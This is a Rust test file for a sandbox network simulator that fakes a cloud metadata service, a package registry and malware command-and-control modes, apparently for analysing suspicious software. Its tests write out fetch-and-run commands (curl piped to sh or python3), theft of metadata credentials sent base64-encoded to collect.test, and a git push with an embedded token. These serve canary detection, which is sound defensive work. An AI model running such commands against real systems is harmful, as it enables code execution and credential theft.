//! Services that are imitated: what they serve, what they prove.
#![allow(clippy::unwrap_used)]

mod common;

use std::io::Write as _;

use apa_model::{Flow, NetworkMode};
use apa_netsim::{Rules, STAGE_TWO_MARKER};
use common::{Simulation, simulate, simulate_with, stdout, summaries};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Sends one request as it is and reads the answer to its end.
async fn ask(sim: &Simulation, request: &str) -> String {
    // Where connections are reset, that may happen at any point.
    let Ok(mut stream) = TcpStream::connect(sim.tcp).await else {
        return String::new();
    };
    let _ = stream.write_all(request.as_bytes()).await;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    String::from_utf8_lossy(&answer).into_owned()
}

fn post(host: &str, path: &str, body: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn with_rules(text: &str) -> Simulation {
    let mut file = tempfile::Builder::new().suffix(".toml").tempfile().unwrap();
    file.write_all(text.as_bytes()).unwrap();
    let rules = Rules::with(
        b"test",
        &[file.path().to_owned()],
        None,
        NetworkMode::Realistic,
    )
    .unwrap();
    simulate_with(|config| config.rules = Some(rules.into()))
}

fn marked(flows: &[Flow]) -> usize {
    let all = flows.iter().flat_map(summaries);
    all.filter(|line| line.ends_with(STAGE_TWO_MARKER)).count()
}

#[tokio::test(flavor = "multi_thread")]
async fn credentials_of_the_metadata_service_are_baits_and_seen_when_they_leave() {
    let sim = simulate();
    let answer = ask(
        &sim,
        "GET /latest/meta-data/iam/security-credentials/build-agent HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n",
    )
    .await;
    let secret = answer
        .lines()
        .find_map(|line| line.split("\"SecretAccessKey\" : \"").nth(1))
        .and_then(|rest| rest.split('"').next())
        .unwrap()
        .to_owned();
    assert_eq!(secret.len(), 40);
    let encoded = common::base64(&secret);
    ask(&sim, &post("collect.test", "/", &encoded)).await;
    let (result, _) = sim.finish().await;
    let hit = &result.flows[1].canary_hits[0];
    assert_eq!(
        (hit.canary.as_str(), hit.layers.join(" ")),
        ("imds-secret-key", "http.body base64".into())
    );
    let served: Vec<_> = result
        .served
        .iter()
        .map(|canary| canary.id.as_str())
        .collect();
    assert_eq!(served, ["imds-secret-key", "imds-session-token"]);
    assert!(
        result.served[0]
            .planted_at
            .starts_with("served:169.254.169.254/")
    );
    assert!(
        result.flows[0].messages[0]
            .answer
            .to_string()
            .ends_with("(imds-credentials)")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_published_package_is_kept_as_a_file() {
    let sim = simulate();
    let body = format!(
        r#"{{"_id":"kit","name":"kit","versions":{{"1.0.1":{{}}}},"_attachments":{{"kit-1.0.1.tgz":{{"data":"{}"}}}}}}"#,
        common::base64("the archive")
    );
    let answer = ask(
        &sim,
        &post("registry.example", "/kit", &body).replace("POST", "PUT"),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 201 Created\r\n"), "{answer}");
    let (result, blobs) = sim.finish().await;
    let flow = &result.flows[0];
    assert_eq!(flow.layers, ["tcp", "http", "registry-publish"]);
    assert_eq!(summaries(flow)[1], "PUBLISH kit@1.0.1 kit-1.0.1.tgz");
    assert_eq!(blobs.get(&flow.messages[1].body), b"the archive");
}

#[tokio::test(flavor = "multi_thread")]
async fn second_stages_of_every_kind_report_that_they_ran() {
    let sim = simulate();
    let base = format!("http://{}", sim.tcp);
    let get = "curl -sS --noproxy ''";
    let commands = [
        format!("cd $(mktemp -d) && {get} {base}/x.tar.gz | tar xz && sh install.sh"),
        format!("cd $(mktemp -d) && {get} -o x.zip {base}/x.zip && python3 x.zip"),
        format!(
            "cd $(mktemp -d) && {get} -o agent {base}/agent-linux-amd64 && chmod +x agent && ./agent"
        ),
        format!("{get} {base}/x.py | python3 -"),
    ];
    for command in &commands {
        let output = sim.client("sh", &["-c", command]).await.unwrap();
        assert!(output.status.success(), "{command}: {output:?}");
    }
    let (result, _) = sim.finish().await;
    assert_eq!(marked(&result.flows), commands.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn git_pushes_with_its_credentials() {
    let sim = simulate();
    let proxy = format!("http.proxy=http://{}", sim.tcp);
    let script = format!(
        "set -e; cd $(mktemp -d); git init -q -b main .; git -c user.name=a -c user.email=a@b.test commit -q --allow-empty -m x; \
         git -c {proxy} -c http.sslVerify=false push -q http://mira:t0ken@github.com/mira/loot.git main"
    );
    let Some(output) = sim.client("sh", &["-c", &script]).await else {
        return;
    };
    assert!(output.status.success(), "{output:?}");
    let (result, _) = sim.finish().await;
    let lines: Vec<_> = result.flows.iter().flat_map(summaries).collect();
    assert!(
        lines
            .iter()
            .any(|line| line.starts_with("POST ") && line.ends_with("/git-receive-pack")),
        "{lines:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn own_rules_reset_stay_silent_delay_and_redirect() {
    let sim = with_rules(
        r#"
title = "mine"
[[rule]]
id = "reset"
path = "/reset"
reply = { reset = true }
[[rule]]
id = "silent"
path = "/silent"
reply = { silent = true }
[[rule]]
id = "slow"
path = "/slow"
reply = { delay_ms = 300, text = "late" }
[[rule]]
id = "away"
path = "/away/{what}"
reply = { redirect = "https://other.test/${path.what}?from=${host}" }
"#,
    );
    assert_eq!(ask(&sim, "GET /reset HTTP/1.0\r\n\r\n").await, "");
    let before = std::time::Instant::now();
    assert!(
        ask(&sim, "GET /slow HTTP/1.0\r\n\r\n")
            .await
            .ends_with("late")
    );
    assert!(before.elapsed().as_millis() >= 300);
    let away = ask(&sim, "GET /away/x HTTP/1.0\r\nHost: a.test\r\n\r\n").await;
    assert!(
        away.contains("302 Found")
            && away.contains("Location: https://other.test/x?from=a.test\r\n"),
        "{away}"
    );
    let mut silent = TcpStream::connect(sim.tcp).await.unwrap();
    silent
        .write_all(b"GET /silent HTTP/1.1\r\n\r\n")
        .await
        .unwrap();
    let mut byte = [0];
    let read = silent.read(&mut byte);
    assert!(
        tokio::time::timeout(std::time::Duration::from_millis(200), read)
            .await
            .is_err()
    );
    let (result, _) = sim.finish().await;
    let answers: Vec<_> = result
        .flows
        .iter()
        .map(|flow| flow.messages[0].answer.to_string())
        .collect();
    assert_eq!(answers[0], "none: reset (reset)");
    assert_eq!(answers[3], "none: silence (silent)");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_moved_clock_shows_in_dates_and_certificates() {
    let ahead = 400 * 86_400;
    let sim = simulate_with(|config| config.clock = apa_netsim::Clock::ahead(ahead));
    let answer = ask(&sim, "GET / HTTP/1.0\r\n\r\n").await;
    let year = (time::OffsetDateTime::now_utc() + time::Duration::seconds(ahead)).year();
    assert!(
        answer
            .lines()
            .any(|line| line.starts_with("Date: ") && line.contains(&year.to_string())),
        "{answer}"
    );
    let command = format!(
        "openssl s_client -connect {} -servername a.test </dev/null 2>/dev/null | openssl x509 -noout -enddate",
        sim.tcp
    );
    let output = sim.client("sh", &["-c", &command]).await.unwrap();
    if output.stdout.is_empty() {
        eprintln!("SKIPPED: openssl is not installed");
        return;
    }
    assert!(
        stdout(&output).contains(&(year + 1).to_string())
            || stdout(&output).contains(&year.to_string())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn modes_of_the_network_answer_in_their_own_ways() {
    let answered = async |mode| {
        let sim = simulate_with(|config| config.mode = mode);
        let request = "GET /x.html HTTP/1.0\r\nHost: a.test\r\n\r\n";
        let got = tokio::time::timeout(std::time::Duration::from_millis(1000), ask(&sim, request));
        let got = got.await.ok();
        (got, sim.finish().await.0.flows)
    };
    let (got, flows) = answered(NetworkMode::CompatInetsim).await;
    assert!(got.unwrap().contains("Server: INetSim HTTP Server\r\n"));
    assert_eq!(flows.len(), 1);
    let (got, _) = answered(NetworkMode::CompatFakenet).await;
    assert!(got.unwrap().contains("<title>FakeNet</title>"));
    let (got, flows) = answered(NetworkMode::DeadC2).await;
    assert_eq!((got.as_deref(), flows.len()), (Some(""), 1));
    let (got, flows) = answered(NetworkMode::Sinkhole).await;
    assert_eq!((got, flows[0].bytes_in), (None, 0));
    assert!(flows[0].bytes_out > 0 && flows[0].sent_blob.is_some());
    let (got, _) = answered(NetworkMode::Slow).await;
    assert_eq!(got, None);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_recording_opens_decrypted() {
    let sim = simulate();
    let url = format!("https://localhost:{}/secret/path?x=1", sim.tcp.port());
    for version in ["--tls-max=1.2", "--tls-max=1.3"] {
        let version: Vec<&str> = version.split('=').collect();
        let http = [
            "--http1.1",
            "--resolve",
            "localhost:1:127.0.0.1",
            "-d",
            "in the clear",
            &url,
        ];
        let arguments = [&version[..], &http[..]].concat();
        if sim.curl(&arguments).await.is_none() {
            return;
        }
    }
    let port = sim.tcp.port();
    let (result, _) = sim.finish().await;
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("x.pcapng");
    std::fs::write(&file, result.capture.pcapng()).unwrap();
    let output = std::process::Command::new("tshark")
        .args([
            "-r",
            file.to_str().unwrap(),
            "-d",
            &format!("tcp.port=={port},tls"),
            "-Y",
            "http.request",
        ])
        .args([
            "-T",
            "fields",
            "-e",
            "http.request.uri",
            "-e",
            "http.file_data",
            "-e",
            "frame.comment",
        ])
        .output();
    let Ok(output) = output else {
        eprintln!("SKIPPED: tshark is not installed");
        return;
    };
    let shown = stdout(&output);
    assert_eq!(shown.matches("/secret/path?x=1").count(), 2, "{shown}");
    let checked = std::process::Command::new("tshark")
        .args([
            "-r",
            file.to_str().unwrap(),
            "-o",
            "tcp.check_checksum:TRUE",
            "-o",
            "ip.check_checksum:TRUE",
        ])
        .args(["-Y", "tcp.checksum.status==0 || ip.checksum.status==0"])
        .output()
        .unwrap();
    assert_eq!(stdout(&checked), "");
}
